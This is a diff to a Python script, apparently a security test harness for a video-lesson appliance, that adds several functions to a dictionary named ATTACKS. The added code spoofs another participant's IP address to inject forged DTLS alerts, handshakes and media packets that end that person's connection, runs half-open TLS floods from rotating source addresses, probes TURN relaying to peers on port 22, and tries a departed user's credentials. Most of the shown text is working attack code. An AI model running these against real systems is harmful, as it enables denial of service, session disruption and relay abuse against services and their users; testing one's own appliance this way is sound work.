@@ -114,12 +114,50 @@ def forged(host, count="50000"):
     return flood_udp(host, one, int(count))
 
 
-def half_open(host, count="1000", hold="10"):
-    """Connections that begin a TLS handshake and never go on. How many the appliance closed by itself."""
-    opened, refused = [], 0
-    for _ in range(int(count)):
+def spoofed(host, source, port, count="20000"):
+    """The same under the address of somebody in the lesson: what his own packets look like, and words that end a connection."""
+    name = attribute(USERNAME, b"abcd:efgh") + attribute(INTEGRITY, bytes(20))
+    # DTLS 1.2, first epoch: an alert (fatal, close_notify or unexpected_message), and a handshake.
+    alert = lambda: b"\x15\xfe\xfd" + bytes(2) + os.urandom(6) + b"\x00\x02\x02" + random.choice((b"\x00", b"\x0a"))
+    hello = lambda: b"\x16\xfe\xfd" + bytes(2) + os.urandom(6) + b"\x00\x40\x01" + os.urandom(63)
+    media = lambda: bytes([0x80, random.choice((96, 111, 200, 203))]) + os.urandom(random.randrange(10, 1200))
+    makers = (alert, hello, media, lambda: message(BINDING, name))
+    ends = socket.inet_aton(source), socket.inet_aton(host)
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        sent, end = 0, time.monotonic() + TIME_MAX_S
+        while sent < int(count) and time.monotonic() < end:
+            body = random.choice(makers)()
+            # The kernel fills in length, id and checksum of the IP header; UDP has none (RFC 768).
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, *ends)
+            raw.sendto(ip + struct.pack("!HHHH", int(port), MEDIA, 8 + len(body), 0) + body, (host, 0))
+            sent += 1
+    return {"sent": sent, "seconds": round(TIME_MAX_S - (end - time.monotonic()), 1)}
+
+
+def page(host, seconds="8"):
+    """Not an attack: somebody else opens the page over and over on new connections. The slowest, and what failed."""
+    end, took, failed = time.monotonic() + float(seconds), [], 0
+    while time.monotonic() < end:
+        begun = time.monotonic()
         try:
-            tcp = socket.create_connection((host, HTTPS), timeout=3)
+            with tls(host) as one:
+                one.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
+                if b" 200 " not in one.recv(64):
+                    failed += 1
+        except OSError:
+            failed += 1
+        took.append(time.monotonic() - begun)
+        time.sleep(0.25)
+    return {"pages": len(took), "failed": failed, "slowest_ms": round(max(took) * 1000)}
+
+
+def half_open(host, sources, count="1800", hold="10"):
+    """Connections that begin a TLS handshake and never go on. How many the appliance closed by itself."""
+    opened, refused, sources = [], 0, sources.split(",")
+    for number in range(int(count)):
+        try:
+            source = (sources[number % len(sources)], 0)
+            tcp = socket.create_connection((host, HTTPS), timeout=3, source_address=source)
             tcp.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
             opened.append(tcp)
         except OSError:
@@ -132,12 +170,16 @@ def closed_within(connections, seconds):
     end, closed = time.monotonic() + seconds, 0
     poll = select.poll()
     open_ = {tcp.fileno(): tcp for tcp in connections}
-    for number in open_:
+    for number, tcp in open_.items():
+        tcp.setblocking(False)
         poll.register(number, select.POLLIN)
     while open_ and time.monotonic() < end:
         for number, _ in poll.poll(max(0, (end - time.monotonic()) * 1000)):
             try:
                 gone = not open_[number].recv(4096)
+            except (BlockingIOError, ssl.SSLWantReadError):
+                # A part of a TLS record, or a ticket.
+                gone = False
             except OSError:
                 gone = True
             if gone:
@@ -149,11 +191,13 @@ def closed_within(connections, seconds):
     return {"closed_by_appliance": closed}
 
 
+# An attacker does not care whose certificate it is.
+CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
+
+
 def tls(host):
-    context = ssl.create_default_context()
-    # An attacker does not care whose certificate it is.
-    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    return context.wrap_socket(socket.create_connection((host, HTTPS), timeout=5))
+    return CONTEXT.wrap_socket(socket.create_connection((host, HTTPS), timeout=5))
 
 
 def slow(host, count="200", hold="15"):
@@ -178,12 +222,13 @@ def slow(host, count="200", hold="15"):
 
 
 def oversized(host, count="200"):
-    """ChannelData that claims 64 KiB, and rubbish that looks like it, inside TLS, by TCP and by UDP."""
+    """ChannelData that claims 64 KiB, and rubbish that looks like it: inside TLS alone and after TURN, by TCP and by UDP."""
     frame = struct.pack("!HH", 0x4001, 0xFFFF)
     ended = {}
     for name, connect in {
         "tls": lambda: tls(host),
-        "tcp": lambda: socket.create_connection((host, MEDIA), timeout=5),
+        "turn_tls": lambda: Turn(host, "", "").stream,
+        "turn_tcp": lambda: socket.create_connection((host, MEDIA), timeout=5),
         "ice_tcp": lambda: socket.create_connection((host, ICE_TCP), timeout=5),
     }.items():
         opened = []
@@ -231,7 +276,13 @@ class Turn:
         return data
 
     def allocate(self):
-        return code(self.exchange(ALLOCATE, attribute(TRANSPORT, struct.pack("!I", UDP_PROTOCOL))))
+        answer = self.exchange(ALLOCATE, attribute(TRANSPORT, struct.pack("!I", UDP_PROTOCOL)))
+        self.reason = attributes(answer).get(ERROR_CODE, bytes(4))[4:].decode()
+        return code(answer)
+
+    def send(self, host, port):
+        """Data for somebody without a permission: there is no answer to it."""
+        self.stream.sendall(message(SEND, attribute(PEER, address(host, port)) + attribute(DATA, b"hello")))
 
     def permit(self, host):
         return code(self.exchange(CREATE_PERMISSION, attribute(PEER, address(host, 0))))
@@ -246,19 +297,23 @@ def relay_abroad(host, username, credential, peers):
     turn = Turn(host, username, credential)
     answers = {"allocate": turn.allocate()}
     for peer in peers.split(","):
+        turn.send(peer, 22)
         answers[peer] = {"permission": turn.permit(peer), "channel": turn.bind(peer, 22)}
+        turn.send(peer, 22)
     return answers
 
 
-def relay_bad_credentials(host, username, credential):
-    """A wrong password, a credential that has run out, and one of nobody."""
+def relay_bad_credentials(host, username, credential, left_username, left_credential):
+    """A wrong password, one for another time, one for nobody, and good ones of somebody who has left the lesson."""
     answers = {}
     for name, (user, password) in {
         "wrong": (username, credential + "x"),
-        "expired": ("1000000000:" + username.partition(":")[2], credential),
-        "nobody": (f"{int(time.time()) + 600}:PA_NOBODY", credential),
+        "another_time": ("4000000000:" + username.partition(":")[2], credential),
+        "nobody": (username.partition(":")[0] + ":PA_NOBODY", credential),
+        "left": (left_username, left_credential),
     }.items():
-        answers[name] = Turn(host, user, password).allocate()
+        turn = Turn(host, user, password)
+        answers[name] = {"code": turn.allocate(), "reason": turn.reason}
     return answers
 
 
@@ -278,7 +333,19 @@ def relay_greedy(host, username, credential, count="64"):
 
 ATTACKS = {
     run.__name__: run
-    for run in (allocate, binding, forged, half_open, slow, oversized, relay_abroad, relay_bad_credentials, relay_greedy)
+    for run in (
+        allocate,
+        binding,
+        forged,
+        spoofed,
+        half_open,
+        slow,
+        oversized,
+        relay_abroad,
+        relay_bad_credentials,
+        relay_greedy,
+        page,
+    )
 }
 
 if __name__ == "__main__":
